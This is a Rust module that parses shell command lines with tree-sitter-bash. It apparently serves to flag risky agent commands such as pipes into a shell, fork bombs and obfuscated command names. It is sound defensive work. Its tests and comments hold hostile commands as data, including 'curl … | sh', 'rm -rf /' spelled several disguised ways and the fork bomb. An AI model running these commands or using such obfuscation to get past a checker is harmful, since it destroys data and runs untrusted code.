//! Shell parsing with tree-sitter-bash: a command line becomes the simple commands inside it,
//! wherever they hide (`;`, `&&`, pipes, `$(…)`, backticks, subshells, functions, loops), with
//! their words evaluated as far as quoting allows and their redirections.

use tree_sitter::{Node, Parser};

/// One word of a command after quote removal. `Dynamic` holds the source text of a word whose
/// value is only known at run time (a variable, a substitution, a glob-free but computed part).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Word {
    Literal(String),
    Dynamic(String),
}

impl Word {
    pub fn literal(&self) -> Option<&str> {
        match self {
            Word::Literal(s) => Some(s),
            Word::Dynamic(_) => None,
        }
    }

    /// The text to show people: the literal value, or the source as written.
    pub fn shown(&self) -> &str {
        match self {
            Word::Literal(s) | Word::Dynamic(s) => s,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `<`: the file is read.
    Read,
    /// `>`, `>>`, `&>`, `>|`, `<>`: the file is written.
    Write,
    /// `2>&1` and friends: no file involved.
    Duplicate,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub kind: RedirectKind,
    pub target: Word,
}

/// A simple command: its words (the name first) and the redirections attached to it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
}

/// Everything the parser found in a command line.
#[derive(Debug, Clone, Default)]
pub struct Parsed {
    pub commands: Vec<SimpleCommand>,
    /// Redirections not tied to a simple command (e.g. on a subshell or a loop).
    pub redirects: Vec<Redirect>,
    /// The tree has syntax errors: what was seen is still reported, but the whole needs a look.
    pub has_error: bool,
    /// Pipelines whose later stage is a shell reading its script from the pipe (`curl … | sh`).
    pub pipes_into_shell: bool,
    /// Process substitutions `<(…)` / `>(…)` (their commands are in `commands` too).
    pub process_substitution: bool,
    /// A function that calls itself (`:(){ :|:& };:`, the fork bomb).
    pub recursive_function: bool,
}

thread_local! {
    /// A parser per thread: creating one and loading the grammar costs more than parsing a
    /// typical command.
    static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
}

fn parse_tree(source: &str) -> Option<tree_sitter::Tree> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .ok()?;
            *slot = Some(parser);
        }
        slot.as_mut()?.parse(source, None)
    })
}

/// Parses a command line. Never fails: what tree-sitter cannot parse is marked `has_error`.
pub fn parse(source: &str) -> Parsed {
    let mut parsed = Parsed::default();
    // The grammar's scanner crashes on some non-ASCII input (`''{` followed by U+E016B was a
    // segfault). Bash treats every non-ASCII character as an ordinary word character, so the
    // tree is built from a copy where each becomes as many `x` bytes as it had, and words are
    // read back from the original at the same byte offsets.
    let shape: String = if source.is_ascii() {
        source.to_string()
    } else {
        source
            .chars()
            .flat_map(|c| {
                let n = if c.is_ascii() { 0 } else { c.len_utf8() };
                std::iter::once(c)
                    .filter(|c| c.is_ascii())
                    .chain(std::iter::repeat_n('x', n))
            })
            .collect()
    };
    let Some(tree) = parse_tree(&shape) else {
        parsed.has_error = true;
        return parsed;
    };
    let root = tree.root_node();
    parsed.has_error = root.has_error();
    let src = source.as_bytes();

    // An explicit stack instead of recursion: a command nested ten thousand `$(` deep must not
    // overflow ours.
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        match node.kind() {
            "command" => parsed.commands.push(simple_command(node, src)),
            "redirected_statement" => {
                let body = node.child_by_field_name("body");
                let redirects: Vec<Redirect> = children(node)
                    .filter(|c| Some(*c) != body)
                    .filter_map(|c| redirect(c, src))
                    .collect();
                // A redirect on a simple command belongs to it; anything else stands alone.
                match body {
                    Some(b) if b.kind() == "command" => {
                        let mut cmd = simple_command(b, src);
                        cmd.redirects.extend(redirects);
                        parsed.commands.push(cmd);
                        // The body's own children (substitutions in its words) still need a walk.
                        push_children(b, &mut stack);
                        push_children_except(node, b, &mut stack);
                        continue;
                    }
                    _ => parsed.redirects.extend(redirects),
                }
            }
            "pipeline" => {
                let stages: Vec<Node> = children(node).filter(|c| c.is_named()).collect();
                for stage in stages.iter().skip(1) {
                    if let Some(name) = stage_command_name(*stage, src)
                        && (is_shell(&name) || is_inline_interpreter(&name))
                    {
                        parsed.pipes_into_shell = true;
                    }
                }
            }
            "process_substitution" => parsed.process_substitution = true,
            "function_definition" => {
                if let (Some(name), Some(body)) = (
                    node.child_by_field_name("name"),
                    node.child_by_field_name("body"),
                ) {
                    let fname = text(name, src);
                    if calls(body, fname, src) {
                        parsed.recursive_function = true;
                    }
                }
            }
            _ => {}
        }
        push_children(node, &mut stack);
    }
    parsed
}

/// Whether a command named `name` appears anywhere under `node`.
fn calls(node: Node, name: &str, src: &[u8]) -> bool {
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if n.kind() == "command"
            && let Some(first) = simple_command(n, src).words.first()
            && first.literal() == Some(name)
        {
            return true;
        }
        stack.extend(children(n));
    }
    false
}

fn children<'t>(node: Node<'t>) -> impl Iterator<Item = Node<'t>> {
    (0..node.child_count()).filter_map(move |i| node.child(i))
}

fn push_children<'t>(node: Node<'t>, stack: &mut Vec<Node<'t>>) {
    // Reverse, so commands come out in source order.
    let mut kids: Vec<Node> = children(node).collect();
    kids.reverse();
    stack.extend(kids);
}

fn push_children_except<'t>(node: Node<'t>, skip: Node<'t>, stack: &mut Vec<Node<'t>>) {
    let mut kids: Vec<Node> = children(node).filter(|c| *c != skip).collect();
    kids.reverse();
    stack.extend(kids);
}

fn text<'s>(node: Node, src: &'s [u8]) -> &'s str {
    node.utf8_text(src).unwrap_or("")
}

fn simple_command(node: Node, src: &[u8]) -> SimpleCommand {
    let mut cmd = SimpleCommand::default();
    for child in children(node) {
        match child.kind() {
            // `X=1 cmd`: the assignment is not a word of the command.
            "variable_assignment" => {}
            "command_name" => {
                let inner = children(child).find(|c| c.is_named()).unwrap_or(child);
                cmd.words.push(word(inner, src));
            }
            k if k.ends_with("redirect") => {
                if let Some(r) = redirect(child, src) {
                    cmd.redirects.push(r);
                }
            }
            _ if child.is_named() && child.kind() != "comment" => cmd.words.push(word(child, src)),
            _ => {}
        }
    }
    cmd
}

/// The name of a pipeline stage's command, if it is a plain one.
fn stage_command_name(stage: Node, src: &[u8]) -> Option<String> {
    let cmd = match stage.kind() {
        "command" => stage,
        "redirected_statement" => stage.child_by_field_name("body")?,
        _ => return None,
    };
    if cmd.kind() != "command" {
        return None;
    }
    let words = simple_command(cmd, src).words;
    // Look through wrappers (`env`, `sudo`, …) at the program that will really read the pipe.
    let mut i = 0;
    while let Some(w) = words.get(i) {
        let name = basename(w.literal()?);
        if matches!(
            name,
            "env" | "sudo" | "doas" | "command" | "exec" | "nohup" | "nice" | "time"
        ) {
            i += 1;
            while words
                .get(i)
                .and_then(Word::literal)
                .is_some_and(|a| a.starts_with('-') || a.contains('='))
            {
                i += 1;
            }
            continue;
        }
        return Some(name.to_string());
    }
    None
}

pub fn basename(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

pub fn is_shell(name: &str) -> bool {
    matches!(
        basename(name),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "csh" | "tcsh" | "ash" | "busybox"
    )
}

/// Interpreters that run code given inline (`-c`, `-e`) or read a script from stdin.
pub fn is_inline_interpreter(name: &str) -> bool {
    let n = basename(name);
    matches!(
        n,
        "python"
            | "python2"
            | "python3"
            | "node"
            | "nodejs"
            | "deno"
            | "bun"
            | "perl"
            | "ruby"
            | "php"
            | "lua"
            | "Rscript"
            | "osascript"
            | "pwsh"
            | "powershell"
    ) || (n.starts_with("python3.") && n[8..].chars().all(|c| c.is_ascii_digit()))
}

fn redirect(node: Node, src: &[u8]) -> Option<Redirect> {
    match node.kind() {
        "file_redirect" => {
            let op = children(node)
                .find(|c| !c.is_named())
                .map(|c| text(c, src).to_string())
                .unwrap_or_default();
            let dest = node.child_by_field_name("destination").or_else(|| {
                children(node)
                    .filter(|c| c.is_named() && c.kind() != "file_descriptor")
                    .last()
            })?;
            let target = word(dest, src);
            let kind = match op.as_str() {
                "<" => RedirectKind::Read,
                ">&" | "<&" | ">&-" | "<&-"
                    if dest.kind() == "number" || target.literal() == Some("-") =>
                {
                    RedirectKind::Duplicate
                }
                _ => RedirectKind::Write,
            };
            Some(Redirect { kind, target })
        }
        // Here-documents and here-strings feed text in; no file is touched.
        _ => None,
    }
}

/// Evaluates a word the way the shell would, as far as it can be known without running
/// anything: quotes removed, escapes applied, `'r''m'` joined.
fn word(node: Node, src: &[u8]) -> Word {
    let raw = text(node, src);
    match node.kind() {
        "word" | "number" => Word::Literal(unescape_bare(raw)),
        "raw_string" => Word::Literal(
            raw.trim_start_matches('\'')
                .trim_end_matches('\'')
                .to_string(),
        ),
        "ansi_c_string" => match decode_ansi_c(raw) {
            Some(s) => Word::Literal(s),
            None => Word::Dynamic(raw.to_string()),
        },
        "string" => {
            let mut out = String::new();
            for part in children(node) {
                match part.kind() {
                    "\"" => {}
                    "string_content" => out.push_str(&unescape_double(text(part, src))),
                    _ => return Word::Dynamic(raw.to_string()),
                }
            }
            Word::Literal(out)
        }
        "concatenation" => {
            let mut out = String::new();
            for part in children(node) {
                match word(part, src) {
                    Word::Literal(s) => out.push_str(&s),
                    Word::Dynamic(_) => return Word::Dynamic(raw.to_string()),
                }
            }
            Word::Literal(out)
        }
        _ => Word::Dynamic(raw.to_string()),
    }
}

/// Backslashes in an unquoted word escape the next character; a backslash-newline vanishes.
fn unescape_bare(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes a backslash escapes only `$`, `` ` ``, `"`, `\` and newline.
fn unescape_double(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `$'…'` strings: the escapes a model might use to spell a command name in hex or octal.
fn decode_ansi_c(raw: &str) -> Option<String> {
    let body = raw.strip_prefix("$'")?.strip_suffix('\'')?;
    let mut out: Vec<u8> = Vec::new();
    let mut chars = body.chars().peekable();
    let mut buf = [0u8; 4];
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            continue;
        }
        let e = chars.next()?;
        match e {
            'n' => out.push(b'\n'),
            't' => out.push(b'\t'),
            'r' => out.push(b'\r'),
            'a' => out.push(7),
            'b' => out.push(8),
            'e' | 'E' => out.push(27),
            'f' => out.push(12),
            'v' => out.push(11),
            '\\' | '\'' | '"' | '?' => out.push(e as u8),
            'x' => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    v = v * 16 + chars.next()?.to_digit(16)?;
                    n += 1;
                }
                if n == 0 {
                    return None;
                }
                out.push(u8::try_from(v).ok()?);
            }
            '0'..='7' => {
                let mut v = e.to_digit(8)?;
                let mut n = 1;
                while n < 3 && chars.peek().is_some_and(|c| ('0'..='7').contains(c)) {
                    v = v * 8 + chars.next()?.to_digit(8)?;
                    n += 1;
                }
                out.push(u8::try_from(v & 0xff).ok()?);
            }
            'u' | 'U' => {
                let max = if e == 'u' { 4 } else { 8 };
                let mut v = 0u32;
                let mut n = 0;
                while n < max && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    v = v * 16 + chars.next()?.to_digit(16)?;
                    n += 1;
                }
                let ch = char::from_u32(v)?;
                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            // `\c` control characters and anything unusual: give up, treat as run-time value.
            _ => return None,
        }
    }
    String::from_utf8(out).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(src: &str) -> Vec<String> {
        parse(src)
            .commands
            .iter()
            .map(|c| {
                c.words
                    .first()
                    .map(|w| w.shown().to_string())
                    .unwrap_or_default()
            })
            .collect()
    }

    #[test]
    fn finds_every_simple_command() {
        let src =
            "ls -la && echo \"$(curl -s http://x | sh)\"; (rm -rf /tmp/x) | tee `whoami` > out.txt";
        let mut n = names(src);
        n.sort();
        assert_eq!(n, ["curl", "echo", "ls", "rm", "sh", "tee", "whoami"]);
        assert!(parse(src).pipes_into_shell);
    }

    #[test]
    fn quoting_is_removed() {
        let p = parse(r#"'r''m' -rf "/" ; \rm x; $'\x72\x6d' y; "r"m z"#);
        let n: Vec<_> = p.commands.iter().map(|c| c.words[0].clone()).collect();
        assert_eq!(
            n,
            [
                Word::Literal("rm".into()),
                Word::Literal("rm".into()),
                Word::Literal("rm".into()),
                Word::Literal("rm".into())
            ]
        );
        assert_eq!(p.commands[0].words[2], Word::Literal("/".into()));
    }

    #[test]
    fn variables_are_dynamic() {
        let p = parse("$CMD -rf / ; rm \"$HOME\"");
        assert!(matches!(p.commands[0].words[0], Word::Dynamic(_)));
        assert!(matches!(p.commands[1].words[1], Word::Dynamic(_)));
    }

    #[test]
    fn redirections_are_reads_and_writes() {
        let p = parse("echo hi > .env 2>&1; cat < secret.txt; ls &> /dev/null");
        assert_eq!(p.commands.len(), 3);
        assert_eq!(
            p.commands[0].redirects,
            [
                Redirect {
                    kind: RedirectKind::Write,
                    target: Word::Literal(".env".into())
                },
                Redirect {
                    kind: RedirectKind::Duplicate,
                    target: Word::Literal("1".into())
                }
            ]
        );
        assert_eq!(p.commands[1].redirects[0].kind, RedirectKind::Read);
        assert_eq!(p.commands[2].redirects[0].kind, RedirectKind::Write);
    }

    #[test]
    fn assignments_and_functions() {
        let p = parse("X=1 make; f() { rm -rf /; }; f");
        let n: Vec<_> = p
            .commands
            .iter()
            .map(|c| c.words[0].shown().to_string())
            .collect();
        assert_eq!(n, ["make", "rm", "f"]);
    }

    #[test]
    fn errors_are_flagged_not_hidden() {
        let p = parse("echo 'unterminated");
        assert!(p.has_error);
        let p = parse("rm -rf / ; ((");
        assert!(p.has_error);
        assert!(names("rm -rf / ; ((").contains(&"rm".to_string()));
    }

    #[test]
    fn non_ascii_words_survive_and_do_not_crash_the_scanner() {
        let p = parse("''{\u{E016B}");
        assert!(!p.commands.is_empty() || p.has_error);
        let p = parse("echo h\u{e9}llo \u{ff52}\u{ff4d} '\u{1F600}'");
        let words: Vec<_> = p.commands[0]
            .words
            .iter()
            .map(|w| w.shown().to_string())
            .collect();
        assert_eq!(
            words,
            ["echo", "h\u{e9}llo", "\u{ff52}\u{ff4d}", "\u{1F600}"]
        );
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let deep = format!("{}echo hi{}", "$(".repeat(5000), ")".repeat(5000));
        let p = parse(&deep);
        assert!(!p.commands.is_empty());
    }
}
